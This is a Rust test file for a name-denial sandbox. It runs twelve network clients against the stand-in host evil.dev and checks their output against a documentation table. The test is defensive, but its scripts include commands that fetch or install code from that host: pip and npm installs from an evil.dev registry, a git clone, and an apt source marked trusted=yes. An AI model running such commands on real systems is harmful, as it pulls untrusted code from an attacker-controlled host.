//! What programs print that are denied a name, under each setting of `denied-names`: what `docs/rules.md`'s
//! table says.

use std::path::Path;

use test_support::bed::Bed;
use test_support::docker::runtime;
use test_support::harness::Test;
use test_support::programs::REPOSITORY;

use crate::clients::{Client, JAVA, cargo};

pub(crate) const TESTS: &[Test] = &[("print_what_the_table_says", table)];

/// The table's head.
const HEAD: &str = "| | `nxdomain` | `answer` | `answer`, trusting |";
/// Of its columns, the default's runtime apart.
const ANSWERING: [&str; 2] = ["boundary-answer", "boundary-answer-trust"];

/// This machine's programs that the image lacks.
const PROGRAMS: [&str; 6] = [
    "bin",
    "lib/apt",
    "lib/go",
    "lib/postgresql",
    "share/dpkg",
    "share/go",
];

/// What each client is told to do.
fn scripts() -> [(&'static str, String); 12] {
    let java = format!(
        "cat >/tmp/Get.java <<'END'
public class Get {{
    public static void main(String[] arguments) throws Exception {{
        new java.net.URL(\"https://evil.dev/x\").openStream().close();
    }}
}}
END
        {JAVA}/java /tmp/Get.java"
    );
    [
        ("curl", "curl -sS -m 20 https://evil.dev/x"),
        // Not the one of the shell.
        ("wget", "/bin/wget -T 20 -t 1 -O - https://evil.dev/x"),
        ("git", "git clone https://evil.dev/r.git /tmp/r"),
        (
            "Node",
            "node -e 'fetch(\"https://evil.dev/x\").then(async (answer) => console.log(await answer.text()),
                (error) => console.log(error.cause.message))'",
        ),
        (
            "npm",
            "node /usr/lib/node_modules/npm/bin/npm-cli.js install --no-audit --no-fund --fetch-retries 0 \
                --registry https://evil.dev/ small",
        ),
        (
            "pip",
            "python3 -m pip --disable-pip-version-check --no-cache-dir install --retries 0 --target /tmp/p \
                --index-url https://evil.dev/simple/ small",
        ),
        (
            "cargo",
            "mkdir -p k/src; cd k; : >src/lib.rs
            printf '[package]\\nname = \"k\"\\n[dependencies]\\nsmall = { version = \"1\", registry = \"own\" }\\n' >Cargo.toml
            export CARGO_HOME=/tmp/h CARGO_REGISTRIES_OWN_INDEX=sparse+https://evil.dev/index/ CARGO_NET_RETRY=0
            /cargo fetch",
        ),
        (
            "Go",
            "mkdir m; cd m; export GOPATH=/tmp/go GOCACHE=/tmp/c GOFLAGS=-mod=mod GOPROXY=https://evil.dev
            /usr/lib/go/bin/go mod init m; /usr/lib/go/bin/go get evil.dev/m@v1.0.0",
        ),
        ("Java", &java),
        (
            "apt",
            "mkdir -p /var/lib/apt/lists/partial /var/cache/apt/archives/partial /etc/apt/apt.conf.d /etc/apt/preferences.d /var/lib/dpkg
            : >/var/lib/dpkg/status; echo 'deb [trusted=yes] https://evil.dev/debian stable main' >/etc/apt/sources.list
            apt-get -o APT::Sandbox::User=root -o Acquire::Retries=0 update",
        ),
        ("ssh", "ssh -o BatchMode=yes -o ConnectTimeout=20 evil.dev"),
        (
            "psql",
            "$(ls -d /usr/lib/postgresql/*/bin | tail -n 1)/psql 'host=evil.dev user=x connect_timeout=20' -c 'select 1'",
        ),
    ]
    .map(|(client, script)| (client, script.to_owned()))
}

fn table(bed: &Bed) {
    let page = std::fs::read_to_string(Path::new(REPOSITORY).join("docs/rules.md")).unwrap();
    let rows: Vec<Vec<&str>> = page
        .lines()
        .skip_while(|line| *line != HEAD)
        .skip(2)
        .take_while(|line| line.starts_with('|'))
        .map(|line| line.trim_matches('|').split('|').map(str::trim).collect())
        .collect();
    let scripts = scripts();
    let clients: Vec<&str> = rows.iter().map(|row| row[0]).collect();
    assert_eq!(clients, scripts.each_ref().map(|(client, _)| *client));
    let flags = flags(bed);
    let flags: Vec<&str> = flags.iter().map(String::as_str).collect();
    let default = runtime();
    let settings = [default.as_str(), ANSWERING[0], ANSWERING[1]];
    let mut wrong = Vec::new();
    for (column, setting) in (1..).zip(settings) {
        let client = Client::knowing(bed, setting, &flags);
        for (row, (name, script)) in rows.iter().zip(&scripts) {
            let script = format!("export HOME=/tmp; cd /tmp; ( {script} ) 2>&1");
            let printed = client.exec(&script).stdout;
            // What stands in backticks is what it prints.
            let mut texts = row[column].split('`').skip(1).step_by(2).peekable();
            assert!(texts.peek().is_some(), "{row:?}");
            if !texts.all(|text| printed.contains(text)) {
                wrong.push(format!("{name}, {setting}: {}\n{printed}", row[column]));
            }
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

/// The programs, and cargo.
fn flags(bed: &Bed) -> Vec<String> {
    let programs = PROGRAMS.map(|name| format!("/machine/usr/{name}:/usr/{name}:ro"));
    let volumes = programs.into_iter().chain([cargo(bed)]);
    volumes
        .flat_map(|volume| ["-v".to_owned(), volume])
        .collect()
}
